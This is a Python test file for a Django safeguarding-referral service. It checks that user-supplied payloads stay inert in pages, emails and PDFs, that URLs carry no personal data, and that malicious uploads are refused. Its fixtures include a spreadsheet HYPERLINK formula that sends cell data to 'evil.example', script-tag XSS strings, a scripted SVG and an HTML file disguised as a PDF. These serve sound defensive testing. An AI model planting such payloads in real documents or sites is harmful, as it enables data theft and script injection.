"""Script and formula payloads are inert wherever they come out (pages, PDF, emails), nothing
personal travels in a URL, and a bad upload is refused before anything is stored.

The referral is sent over HTTP by its referrer with a canary, a script payload and a
spreadsheet formula in its free text; staff put the same payloads in the feedback they write.
"""

import os
from io import BytesIO

import pytest
from django.core import mail
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from pypdf import PdfReader
from pypdf.generic import DictionaryObject, IndirectObject

from referrals import services
from referrals.models import Referral
from tests.factories.triage import CRITERIA_FOR
from tests.referrals.factories import complete_draft
from tests.security.test_canary import CANARY, XSS, canary_answers, walk_and_submit
from tests.security.test_internal_fields import FormParser
from tests.security.urlwalk import converters, url_patterns
from triage import transitions

FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"Open")'
SCRIPT = "<script>alert('x')</script>"


def payload_answers():
    answers = canary_answers()
    answers["concern"]["what_happened"] = f"{FORMULA} {CANARY} {XSS}"
    return answers


@pytest.fixture
def sent(client, referrer, staff_member, django_capture_on_commit_callbacks):
    """The referral with payloads, submitted over HTTP, then decided by staff with the same
    payloads in the referrer's feedback."""
    client.force_login(referrer)
    with django_capture_on_commit_callbacks(execute=True):
        walk_and_submit(client, payload_answers())
    referral = Referral.objects.get(referrer=referrer, status="submitted", linked_to=None)
    worker = staff_member("oppd")
    with django_capture_on_commit_callbacks(execute=True):
        transitions.referral_decide(
            referral_id=referral.pk, actor=worker, outcome="not_safeguarding",
            detail="signposted", rationale=f"{FORMULA} {SCRIPT}",
            criteria=CRITERIA_FOR["not_safeguarding"],
            feedback=transitions.Feedback(outcome_text=f"{FORMULA} {SCRIPT}",
                                          reason=f"{SCRIPT} reason",
                                          signposting=f"{FORMULA} signposting"),
        )
    return {"referral": referral, "worker": worker}


def page_urls(html: str) -> list[str]:
    """Every URL a page links to, submits to or loads."""
    import re

    return re.findall(r'(?:href|action|src)="([^"]*)"', html)


# --- nothing personal in URLs -----------------------------------------------------------------

# Route parameters are ids, step and action names, formats and signed tokens. A parameter named
# anything else (a name, a date of birth, a postcode, an email address) fails here.
ID_PARAMETERS = {"pk", "referral_pk", "referral_id", "user_pk", "membership_pk", "attachment_pk",
                 "object_id", "content_type_id", "id", "duty_pk"}
WORD_PARAMETERS = {"key", "action", "slug", "fmt", "app_label", "url"}
TOKEN_PARAMETERS = {"uidb64", "token"}


def test_no_route_parameter_can_carry_personal_data():
    problems = []
    for entry in url_patterns():
        for name, converter in converters(entry).items():
            kind = type(converter).__name__ if converter else "regex"
            if name in ID_PARAMETERS and kind in ("IntConverter", "PathConverter",
                                                  "StringConverter"):
                continue
            if name in WORD_PARAMETERS | TOKEN_PARAMETERS:
                continue
            problems.append((entry.name or entry.route, name, kind))
    assert problems == []


PERSONAL_FIELDS = {"name", "person_name", "full_name", "dob", "person_dob", "date_of_birth",
                   "postcode", "person_postcode", "address", "person_address", "email", "phone",
                   "what_happened"}


def get_form_fields(html: str) -> set[str]:
    """Names of the fields in the page's GET forms (they end up in the URL)."""
    parser = FormParser()
    parser.handle_starttag = _get_forms_too(parser)
    parser.feed(html)
    return {name for form in parser.get_forms for name in form}


def _get_forms_too(parser):
    parser.get_forms = []
    current = {"form": None}

    def handle_starttag(tag, attrs):
        attrs = dict(attrs)
        if tag == "form":
            current["form"] = set() if (attrs.get("method") or "get").lower() == "get" else None
            if current["form"] is not None:
                parser.get_forms.append(current["form"])
        elif tag in ("input", "select", "textarea") and current["form"] is not None:
            if attrs.get("name"):
                current["form"].add(attrs["name"])

    return handle_starttag


def test_get_forms_never_ask_for_personal_details(sent, referrer, make_user, organisation,
                                                  council_admin, staff_member):
    """Every page without object parameters plus the referral's own pages, as each role: no
    GET form (whose fields go into the URL) has a personal field. Searches by name or date of
    birth are POST forms (triage, privacy office)."""
    from accounts.models import Membership, MembershipRole, MembershipStatus

    lead = make_user("lead@daycentre.example.org", "Lena Lead")
    Membership.objects.create(user=lead, organisation=organisation,
                              status=MembershipStatus.APPROVED,
                              role=MembershipRole.SAFEGUARDING_LEAD)
    people = [referrer, lead, sent["worker"], staff_member("oppd", role="manager"),
              council_admin]
    referral = sent["referral"]
    found, pages, all_fields = {}, 0, set()
    for person in people:
        client = Client()
        client.force_login(person)
        for entry in url_patterns():
            if (entry.name or "").startswith("admin") or entry.name == "accounts:sign-out":
                continue
            params = converters(entry)
            if params and not set(params) <= {"pk", "referral_id", "referral_pk"}:
                continue
            path = "/" + "".join(str(p.pattern) for p in entry.parts)
            for name in params:
                path = path.replace(f"<int:{name}>", str(referral.pk))
            response = client.get(path)
            if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
                continue
            pages += 1
            fields = get_form_fields(response.content.decode())
            all_fields |= fields
            if fields & PERSONAL_FIELDS:
                found[(person.email, path)] = fields & PERSONAL_FIELDS
    assert found == {}
    assert pages > 20 and all_fields  # the queue's and dashboard's filters are GET forms
    assert get_form_fields('<form method="get"><input name="dob"></form>') == {"dob"}


def test_a_whole_journey_puts_nothing_personal_in_any_url(client, sent, referrer):
    referral = sent["referral"]
    client.force_login(referrer)
    urls = []
    for name in ("feedback:status", "referrals:confirmation"):
        response = client.get(reverse(name, args=[referral.pk]))
        assert response.status_code == 200
        urls += page_urls(response.content.decode())
    for name in ("feedback:my-referrals", "feedback:notices", "home"):
        urls += page_urls(client.get(reverse(name)).content.decode())
    for message in mail.outbox:
        urls += [word for word in message.body.split() if "://" in word]
    assert any(str(referral.pk) in url for url in urls)  # the referral's pages are linked
    personal = (CANARY, referral.person_name, referral.person_postcode.replace(" ", ""),
                referral.person_postcode.replace(" ", "+"), "1941")
    assert [url for url in urls if any(p and p in url for p in personal)] == []


# --- payloads inert in pages, PDFs and emails --------------------------------------------------

def test_script_payloads_are_escaped_on_the_referrer_and_staff_pages(client, sent, referrer):
    referral = sent["referral"]
    client.force_login(referrer)
    added = client.post(reverse("feedback:add-information", args=[referral.pk]),
                        {"text": f"{SCRIPT} {FORMULA}"})
    assert added.status_code == 302
    status = client.get(reverse("feedback:status", args=[referral.pk])).content.decode()
    assert SCRIPT not in status and "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in status
    staff = Client()
    staff.force_login(sent["worker"])
    page = staff.get(reverse("triage:referral", args=[referral.pk])).content.decode()
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert SCRIPT not in page and "<img src=x onerror" not in page


def test_payloads_never_reach_emails(sent):
    assert mail.outbox, "the submission and the decision sent emails"
    for message in mail.outbox:
        texts = [message.subject, message.body,
                 *(alt for alt, _type in getattr(message, "alternatives", []))]
        for text in texts:
            for payload in (CANARY, "<script", "onerror", "HYPERLINK", "evil.example"):
                assert payload not in text, (message.subject, payload)
            # No line of an email starts a formula (a pasted email in a spreadsheet stays text).
            assert not any(line.lstrip().startswith(("=", "+", "@"))
                           for line in text.splitlines())


def _pdf_actions(reader: PdfReader) -> list[str]:
    """Every JavaScript, launch, open or URI action anywhere in the PDF."""
    found, seen, stack = [], set(), [reader.trailer]
    while stack:
        item = stack.pop()
        if isinstance(item, IndirectObject):
            if item.idnum in seen:
                continue
            seen.add(item.idnum)
            item = item.get_object()
        if isinstance(item, DictionaryObject):
            for key in ("/JS", "/JavaScript", "/Launch", "/OpenAction", "/AA", "/URI"):
                if key in item:
                    found.append(f"{key}: {item[key]!r}"[:120])
            stack.extend(v for k, v in item.items() if k != "/Parent")
        elif isinstance(item, list):
            stack.extend(item)
    return found


def test_payloads_are_plain_text_in_the_pdf(client, sent, referrer):
    referral = sent["referral"]
    client.force_login(referrer)
    response = client.get(reverse("referrals:pdf", args=[referral.pk]))
    reader = PdfReader(BytesIO(response.content))
    text = " ".join(page.extract_text() for page in reader.pages)
    # Shown as the characters typed, never run, fetched or linked.
    assert "=HYPERLINK(" in " ".join(text.split()) and "<script>" in text
    assert _pdf_actions(reader) == []


def test_the_pdf_action_check_can_fail():
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.add_js("app.alert('x');")
    buffer = BytesIO()
    writer.write(buffer)
    assert _pdf_actions(PdfReader(BytesIO(buffer.getvalue())))


# --- uploads refused before storage -------------------------------------------------------------

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
BAD_FILES = {
    "svg with a script": ("drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg">'
                                         b"<script>alert(1)</script></svg>"),
    "html behind a pdf name": ("report.pdf", b"<html><script>alert(1)</script></html>"),
    "oversize": ("big.pdf", PDF + b"0" * (1024 * 1024)),
    "empty": ("empty.pdf", b""),
}


def _stored_files() -> set:
    if not default_storage.exists("attachments"):
        return set()
    return set(default_storage.listdir("attachments")[1])


@pytest.mark.parametrize("bad", [*BAD_FILES, "one too many"])
def test_a_bad_upload_is_refused_before_storage_and_nothing_else_is_lost(client, referrer, bad,
                                                                         settings):
    settings.REFERRAL_ATTACHMENT_MAX_BYTES = 1024 * 1024
    settings.REFERRAL_ATTACHMENT_MAX_FILES = 1
    draft = complete_draft(referrer)
    kept = services.attachment_add(referral=draft, actor=referrer,
                                   upload=SimpleUploadedFile("kept.pdf", PDF),
                                   description="Body map") if bad == "one too many" else None
    if bad == "one too many":
        name, content = "second.pdf", PDF
    else:
        name, content = BAD_FILES[bad]
    client.force_login(referrer)
    before_files = _stored_files()
    before = Referral.objects.values().get(pk=draft.pk)
    response = client.post(reverse("referrals:step", args=[draft.pk, "attachments"]),
                           {"file": SimpleUploadedFile(name, content),
                            "description": "Photo of the bruise", "action": "add"})
    assert response.status_code == 200
    assert response.context["form"].errors["file"]  # a specific message for the file
    assert 'value="Photo of the bruise"' in response.content.decode()  # what was typed stays
    assert _stored_files() == before_files  # nothing written to storage
    after = Referral.objects.values().get(pk=draft.pk)
    assert {k: v for k, v in after.items() if k != "updated_at"} == \
        {k: v for k, v in before.items() if k != "updated_at"}
    assert list(draft.attachments.all()) == ([kept] if kept else [])
    if kept:
        assert default_storage.exists(kept.stored_name)


def test_a_bad_file_with_added_information_stores_nothing(client, sent, referrer):
    referral = sent["referral"]
    client.force_login(referrer)
    events = referral.events.count()
    before_files = _stored_files()
    name, content = BAD_FILES["svg with a script"]
    response = client.post(reverse("feedback:add-information", args=[referral.pk]),
                           {"text": "New address", "file": SimpleUploadedFile(name, content)})
    assert response.status_code == 200
    assert "must be a PDF" in response.content.decode()
    assert referral.events.count() == events and _stored_files() == before_files
    assert "New address" in response.content.decode()  # the text typed is kept


def test_the_storage_check_sees_a_stored_file(referrer):
    """_stored_files() notices a file, so the 'nothing stored' assertions can fail."""
    before = _stored_files()
    draft = complete_draft(referrer)
    attachment = services.attachment_add(referral=draft, actor=referrer,
                                         upload=SimpleUploadedFile("a.pdf", PDF))
    assert _stored_files() == before | {os.path.basename(attachment.stored_name)}
